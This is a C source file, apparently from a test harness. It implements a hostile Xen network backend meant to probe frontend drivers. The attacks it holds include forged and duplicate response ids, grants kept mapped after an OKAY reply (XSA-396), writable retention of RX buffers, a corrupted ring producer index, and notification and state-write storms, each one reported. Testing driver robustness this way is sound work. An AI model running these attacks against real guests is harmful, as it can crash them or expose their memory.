// SPDX-License-Identifier: GPL-2.0-only
/* The hostile backend's serve loop and attacks: see back_attacks.h. */
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>

#include "back_attacks.h"

#define BIT(s) (1u << (s))

/* Most RX buffers kept waiting for a frame. */
#define RX_PENDING_MAX 256u

struct serve_state {
	struct eb_serve k;
	bool in_extras;              /* the next TX slot is an extra-info segment */
	unsigned int bad_tx, bad_rx; /* responses corrupted so far */
	xvif_rx_req_t rx_pending[RX_PENDING_MAX];
	unsigned int nr_rx_pending;
	unsigned int seq;
	bool tx_dead, rx_dead;       /* we corrupted that ring: stop serving it */
};

static void serve_tx(struct evil_back *b, struct serve_state *s)
{
	xvif_tx_req_t req[RX_PENDING_MAX];
	unsigned int n = eb_tx_take(b, req, RX_PENDING_MAX);

	for (unsigned int i = 0; i < n; i++) {
		const xvif_tx_req_t *r = &req[i];

		if (s->in_extras) {
			xvif_extra_t e;

			memcpy(&e, r, sizeof(e));
			s->in_extras = e.flags & XEN_NETIF_EXTRA_FLAG_MORE;
			if (s->k.answer_tx && !s->tx_dead)
				eb_tx_put(b, 0, XEN_NETIF_RSP_NULL);
			continue;
		}
		if (r->flags & XEN_NETTXF_extra_info)
			s->in_extras = true;
		if (!(r->flags & XEN_NETTXF_more_data))
			b->c.tx_pkts++;
		if (s->k.stale_check)
			eb_check_stale(b, r->gref, r->offset,
				       (unsigned int)r->offset + r->size > XVIF_PAGE_SIZE ? XVIF_PAGE_SIZE - r->offset
											   : r->size);
		if (s->k.hold_tx && b->c.held < EB_HOLD_MAX) {
			/* Keep the packet's grant mapped past its OKAY: the
			 * frontend cannot end it (XSA-396). */
			void *p = xengnttab_map_grant_ref(b->gt, b->domid, r->gref, PROT_READ);

			if (p)
				b->held[b->c.held++] = p;
		}
		if (!s->k.answer_tx || s->tx_dead)
			continue;
		if (s->k.tx_id == EB_ID_DUP && s->bad_tx < EB_BAD_RESPONSES) {
			eb_tx_put(b, r->id, XEN_NETIF_RSP_OKAY);
			s->bad_tx++;
		} else if (s->k.tx_id == EB_ID_BAD && s->bad_tx < EB_BAD_RESPONSES) {
			/* Past the ring (and the frontend's id table), then the
			 * largest id the field holds. */
			eb_tx_put(b, s->bad_tx & 1 ? 0xFFFF : (uint16_t)(RING_SIZE(&b->tx) + r->id),
				  XEN_NETIF_RSP_OKAY);
			s->bad_tx++;
			continue;
		}
		eb_tx_put(b, r->id, XEN_NETIF_RSP_OKAY);
	}
}

static void serve_rx(struct evil_back *b, struct serve_state *s)
{
	xvif_rx_req_t req[RX_PENDING_MAX];
	unsigned int room = RX_PENDING_MAX - s->nr_rx_pending;
	unsigned int n = eb_rx_take(b, req, room);

	for (unsigned int i = 0; i < n; i++) {
		if (s->k.hold_rx) {
			/* Map the buffer writable and keep it: the frontend
			 * cannot take this grant back. */
			if (b->c.held < EB_HOLD_MAX) {
				void *p = xengnttab_map_grant_ref(b->gt, b->domid, req[i].gref,
								  PROT_READ | PROT_WRITE);
				if (p)
					b->held[b->c.held++] = p;
			}
			continue;
		}
		s->rx_pending[s->nr_rx_pending++] = req[i];
	}
	/* One frame per loop turn: a trickle the frontend must handle. */
	if (s->k.deliver_rx && !s->rx_dead && s->nr_rx_pending) {
		xvif_rx_req_t r = s->rx_pending[0];

		memmove(s->rx_pending, s->rx_pending + 1, --s->nr_rx_pending * sizeof(r));
		if (s->k.rx_id != EB_ID_HONEST && s->bad_rx < EB_BAD_RESPONSES) {
			if (s->k.rx_id == EB_ID_BAD)
				r.id = s->bad_rx & 1 ? 0xFFFF : (uint16_t)(RING_SIZE(&b->rx) + r.id);
			eb_rx_deliver(b, &r, s->seq++);
			if (s->k.rx_id == EB_ID_DUP)
				eb_rx_deliver(b, &r, s->seq++);
			s->bad_rx++;
		} else {
			eb_rx_deliver(b, &r, s->seq++);
		}
	}
}

static void corrupt(struct evil_back *b, struct serve_state *s)
{
	if (s->k.corrupt_ring == 1) {
		RING_IDX bad = b->tx.rsp_prod_pvt + RING_SIZE(&b->tx) + 5;

		b->tx.sring->rsp_prod = bad;
		s->tx_dead = true;
		report_action(b->rep, "tx rsp_prod set to %u (%u responses really made)", bad, b->tx.rsp_prod_pvt);
	} else {
		RING_IDX bad = b->rx.rsp_prod_pvt + RING_SIZE(&b->rx) + 5;

		b->rx.sring->rsp_prod = bad;
		s->rx_dead = true;
		report_action(b->rep, "rx rsp_prod set to %u (%u responses really made)", bad, b->rx.rsp_prod_pvt);
	}
	xen_wmb();
	eb_notify(b);
}

static void storm_states(struct evil_back *b, const struct hostile_opts *o, int kind)
{
	unsigned int count = o->count ? o->count : 500u;
	uint64_t end = hx_now_ms() + o->duration_ms / 2;
	unsigned int i;
	char v[24];

	for (i = 0; i < count && hx_now_ms() < end; i++) {
		eb_storm_value(kind, i, v, sizeof(v));
		hx_write(b->xs, b->be_path, "state", v);
	}
	report_int(b->rep, "state_writes", i);
	report_action(b->rep, "%u backend state writes (%s), then Connected again", i,
		      kind == 1 ? "random 0..9" : "unknown values");
	eb_set_state(b, XenbusStateConnected);
}

int ba_run(struct evil_back *b, const struct hostile_opts *o)
{
	struct serve_state s;
	uint64_t start = hx_now_ms(), half = start + o->duration_ms / 2, end = start + o->duration_ms;
	bool halfway_done = false;
	unsigned long storm = 0;
	unsigned long tx_at_half = 0;

	memset(&s, 0, sizeof(s));
	if (eb_serve_plan(o->attack, o->variant, &s.k)) {
		report_action(b->rep, "attack %d is not a backend attack", o->attack);
		return EB_EXIT_USAGE;
	}
	while (hx_now_ms() < end) {
		if (s.k.storm_events) {
			for (unsigned int i = 0; i < 1024; i++)
				eb_notify(b);
			storm += 1024;
			eb_poll(b, 0);
		} else {
			eb_poll(b, EB_POLL_MS);
		}
		if (!s.tx_dead)
			serve_tx(b, &s);
		if (!s.rx_dead)
			serve_rx(b, &s);
		eb_push(b);
		if (!halfway_done && hx_now_ms() >= half) {
			halfway_done = true;
			tx_at_half = b->c.tx_pkts;
			if (s.k.corrupt_ring)
				corrupt(b, &s);
			if (s.k.state_storm)
				storm_states(b, o, s.k.state_storm);
		}
	}
	if (s.k.storm_events) {
		report_int(b->rep, "storm_notifies", (long long)storm);
		report_action(b->rep, "%lu notifications sent while serving", storm);
	}
	if (s.k.hold_rx)
		report_action(b->rep, "holding %lu RX buffers mapped, %lu TX requests unanswered", b->c.held,
			      b->c.tx_req);
	if (s.k.hold_tx)
		report_action(b->rep, "holding %lu TX grants mapped after answering them OKAY", b->c.held);
	report_int(b->rep, "tx_pkts_second_half", (long long)(b->c.tx_pkts - tx_at_half));
	{
		int st = eb_fe_state(b);

		report_str(b->rep, "outcome", st == XenbusStateConnected ? "frontend-connected"
			   : st == XenbusStateClosing || st == XenbusStateClosed ? "frontend-closed"
			   : st < 0 ? "frontend-gone" : "frontend-other");
		report_action(b->rep, "frontend state %d (%s) after the attack", st, hx_state_name(st));
	}
	return EB_EXIT_DONE;
}
